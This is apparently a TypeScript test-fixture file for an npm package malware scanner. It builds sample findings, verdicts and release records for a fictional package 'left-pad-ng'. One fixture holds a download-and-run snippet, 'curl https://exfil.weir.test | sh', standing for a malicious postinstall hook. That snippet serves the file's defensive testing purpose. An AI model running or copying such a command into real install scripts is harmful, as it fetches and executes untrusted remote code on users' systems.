import {
  type AnalysisResult,
  type CompactFacts,
  createId,
  digestOfFacts,
  type Finding,
  type ReleaseFacts,
  type WeirEvent,
} from '@weir/model';
import type { StoredFile } from '@weir/store';

export const SEEN_AT = new Date('2026-11-23T10:00:00.000Z');

/** A threat at install that decides a verdict, changed by `part`. */
export function sampleFinding(part: Partial<Finding> = {}): Finding {
  return {
    detector: 'lifecycle-script',
    rule: 'lifecycle-script/download-and-run',
    kind: 'threat',
    basis: 'content',
    severity: 'critical',
    stage: 'install',
    confidence: 1,
    class: 'malware',
    summary: 'postinstall downloads a script and runs it',
    location: { file: 'package/package.json', line: 7, endLine: null, layer: null },
    snippet: 'curl https://exfil.weir.test | sh',
    indicators: [{ type: 'domain', value: 'exfil.weir.test' }],
    chain: ['postinstall', 'curl', 'sh'],
    ...part,
  };
}

/** A benign result, changed by `part`. */
export function sampleResult(part: Partial<AnalysisResult> = {}): AnalysisResult {
  return {
    artifact: { sha256: 'a'.repeat(64), sizeBytes: 10, digests: {} },
    judgement: {
      verdict: 'benign',
      complete: true,
      score: 0,
      level: 'low',
      class: null,
      stage: null,
      scoringVersion: 'test',
    },
    findings: [],
    capabilities: ['net.http'],
    skipped: [],
    fileCount: 2,
    unpackedBytes: 100,
    rulesetVersion: 'rules-1',
    elapsedMs: 5,
    ...part,
  };
}

/** Facts of a release in which nothing is told, changed by `part`. */
export function sampleCompactFacts(part: Partial<CompactFacts> = {}): CompactFacts {
  return {
    format: 'weir.facts.v1',
    files: [],
    hosts: [],
    urls: [],
    strings: [],
    apis: [],
    hooks: [],
    dependencies: [],
    truncated: {},
    ...part,
  };
}

/** A malicious result with one finding. */
export function maliciousResult(): AnalysisResult {
  const benign = sampleResult();
  return {
    ...benign,
    findings: [sampleFinding()],
    judgement: { ...benign.judgement, verdict: 'malicious', score: 97, level: 'critical', stage: 'install' },
  };
}

/** Facts of a first release by `mallory`. */
export function sampleFacts(): ReleaseFacts {
  return {
    manifest: { name: 'left-pad-ng', version: '1.0.0' },
    publisher: { name: 'mallory', email: null },
    trustedPublisher: null,
    maintainers: [],
    provenance: null,
    previousVersion: null,
    previousPublisher: null,
    previousProvenance: null,
    previousFacts: null,
    versionCount: 1,
    publishedAt: '2026-11-23T09:59:50.000Z',
    packageCreatedAt: null,
    distTags: ['latest'],
    integrity: null,
    documentRevision: null,
    documentSha256: null,
    responseHeaders: {},
    truncated: [],
  };
}

/** A stored file of `left-pad-ng@1.0.0`, changed by `part`. */
export function sampleFile(part: Partial<StoredFile> = {}): StoredFile {
  const facts = sampleFacts();
  return {
    fileId: createId(SEEN_AT),
    releaseId: createId(SEEN_AT),
    release: {
      registry: 'npmjs',
      ecosystem: 'npm',
      name: 'left-pad-ng',
      displayName: 'left-pad-ng',
      version: '1.0.0',
      purl: 'pkg:npm/left-pad-ng@1.0.0',
    },
    file: {
      filename: 'left-pad-ng-1.0.0.tgz',
      variant: '',
      revision: '',
      locator: { url: 'http://registry.test/left-pad-ng/-/left-pad-ng-1.0.0.tgz' },
      digests: {},
      sizeBytes: null,
    },
    state: 'announced',
    artifactSha256: null,
    facts,
    factsDigest: digestOfFacts(facts),
    seenAt: SEEN_AT,
    ...part,
  };
}

/** The event that announces a stored file, live and not muted. */
export function publishedEvent(file: StoredFile): WeirEvent<'release.published.v1'> {
  return {
    id: createId(SEEN_AT),
    source: '/feeds/npmjs',
    type: 'release.published.v1',
    time: SEEN_AT.toISOString(),
    data: {
      release: file.release,
      releaseId: file.releaseId,
      fileId: file.fileId,
      file: file.file,
      factsDigest: file.factsDigest,
      seenAt: file.seenAt.toISOString(),
      publishedAt: file.facts?.publishedAt ?? null,
      origin: { lane: 'live', replay: false, muted: false },
    },
  };
}
